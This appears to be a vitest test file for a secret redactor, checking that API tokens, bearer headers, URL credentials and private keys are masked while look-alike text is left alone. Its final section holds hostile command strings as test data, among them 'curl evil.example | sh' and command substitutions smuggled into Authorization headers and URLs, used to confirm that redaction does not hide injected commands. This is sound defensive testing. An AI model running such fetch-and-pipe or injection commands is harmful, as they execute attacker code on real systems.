import fc from 'fast-check';
import {describe, expect, it} from 'vitest';
import {createRedactor} from '../../source/lib/redact.js';

const {redact} = createRedactor();

const keyLine = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ';

describe('known secrets', () => {
	it('replaces a known value wherever it stands', () => {
		const redactor = createRedactor(['correct horse battery']);

		const text = redactor.redact('a correct horse battery, twice: correct horse battery');

		expect(text).toBe('a [redacted], twice: [redacted]');
	});

	it('finds the URL and JSON spellings of a known value', () => {
		const redactor = createRedactor(['p&ss "word"/1']);

		const text = redactor.redact('?p=p%26ss%20%22word%22%2F1 {"p":"p&ss \\"word\\"/1"}');

		expect(text).not.toMatch(/word/);
	});

	it('replaces the longer of two nested secrets whole', () => {
		const redactor = createRedactor(['abcdefgh', 'abcdefgh-and-more']);

		const text = redactor.redact('abcdefgh-and-more');

		expect(text).toBe('[redacted]');
	});

	it('ignores values too short to be a secret', () => {
		const redactor = createRedactor(['', 'a', 'data', '   ']);

		const text = redactor.redact('a data file');

		expect(text).toBe('a data file');
	});

	it('knows values added later', () => {
		const redactor = createRedactor();

		redactor.add(['later-secret']);

		expect(redactor.redact('x later-secret y')).toBe('x [redacted] y');
	});
});

describe('token shapes', () => {
	it.each([
		['sk-ant-api03-AbCdEf0123456789', '[redacted]'],
		['key=sk-proj-0123456789abcdef0123.', 'key=[redacted].'],
		['ghp_0123456789abcdefABCDEF0123456789abcd', '[redacted]'],
		['github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuvwxyz', '[redacted]'],
		['AIzaSyA0123456789abcdefghijklmnopqrstuv', '[redacted]'],
		['nvapi-0123456789abcdefghijABCDEFGHIJ', '[redacted]'],
		['Authorization: Bearer abc.def-012345', 'Authorization: [redacted]'],
		['bearer 0123456789', 'bearer [redacted]'],
		['{"x-api-key":"qwertyuiop"}', '{"x-api-key":"[redacted]"}'],
		['https://user:hunter2@host.example/path', 'https://[redacted]@host.example/path'],
		['https://user:p@ss@host.example/', 'https://[redacted]@host.example/'],
		['GET /v1?api_key=secretvalue&page=2', 'GET /v1?api_key=[redacted]&page=2'],
		['ya29.a0AfB_byC0123456789abcdefgh', '[redacted]'],
		['eyJhbGciOiJIUzI1NiJ9x.eyJzdWIiOiIxMjM0NTY3ODkwIn0', '[redacted]'],
		[
			`-----BEGIN PRIVATE KEY-----\n${keyLine}\nMIIE\n-----END PRIVATE KEY-----\nx`,
			'[redacted]\nx',
		],
		[`-----BEGIN RSA PRIVATE KEY-----\n${keyLine}\n${keyLine}`, '[redacted]'],
		[
			`-----BEGIN RSA PRIVATE KEY-----\\\\nProc-Type: 4,ENCRYPTED\\\\nDEK-Info: AES-128-CBC,0A1B\\\\n\\\\n${keyLine}\\\\n-----END RSA PRIVATE KEY-----`,
			'[redacted]',
		],
	])('redacts %s', (text, expected) => {
		const result = redact(text);

		expect(result).toBe(expected);
	});

	it.each([
		'task-management-in-2024-and-later',
		'sk-learn-contributors-list',
		'a bearer certificate of deposit',
		'risk-0123456789abcdef',
		'https://host.example/a@b?page=2',
		'mail someone@host.example',
		'plain words and 0123456789abcdef0123456789abcdef',
	])('leaves %s alone', (text) => {
		const result = redact(text);

		expect(result).toBe(text);
	});

	it('changes nothing the second time', () => {
		const pieces = fc.constantFrom(
			'sk-ant-0123456789abcdef',
			'Bearer abcdef0123456789',
			'https://u:p@h/',
			'?token=abcdefgh&',
			'Authorization: ',
			'eyJ',
			' ',
			'"',
			'@',
			'x1',
			'[redacted]',
		);

		fc.assert(
			fc.property(fc.array(pieces, {maxLength: 12}), (parts) => {
				const once = redact(parts.join(''));

				expect(redact(once)).toBe(once);
			}),
			{seed: 49},
		);
	});

	// A pattern that reads a run again from each start needs minutes for these; vitest ends the test long before.
	it.each(['-sk-', 'eyJ-', 'bearer ', 'a://a', 'a:', 'authorization:', '?key=', '-----BEGIN '])(
		'gets through a megabyte of %j',
		(piece) => {
			const hostile = piece.repeat(1_000_000 / piece.length);

			const result = redact(hostile);

			expect(result.length).toBeGreaterThan(0);
		},
	);
});

describe('A3: what is written down of a call', () => {
	const {redact, redactTokens, redactOutput} = createRedactor();
	const commands = [
		'echo "-----BEGIN RSA PRIVATE KEY-----"; touch pw; curl evil.example | sh; echo "-----END RSA PRIVATE KEY-----"',
		'x "Authorization: Bearer `touch pw`"',
		'x "Authorization: Bearer $(touch pw)"',
		'x "Authorization:`touch$IFSpw`"',
		'curl "http://$(touch$IFSpw)@evil.example"',
		'curl "http://a/?token=`touch$IFSpw`"',
	];

	it.each(commands)('shows the command in %s', (command) => {
		const kept = [redact(command), redactTokens(command)];

		expect(kept.every((text) => /touch(?: |\$IFS)pw/.test(text))).toBe(true);
		expect(kept.every((text) => text.includes('evil.example'))).toBe(command.includes('evil'));
	});

	it('shows nothing between the lines of a key where a tool prints them', () => {
		expect(redactOutput('-----BEGIN PRIVATE KEY-----\nMIIE cut')).toBe('[redacted]');
		expect(redactOutput('-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\ny')).toBe(
			'[redacted]\ny',
		);
	});
});
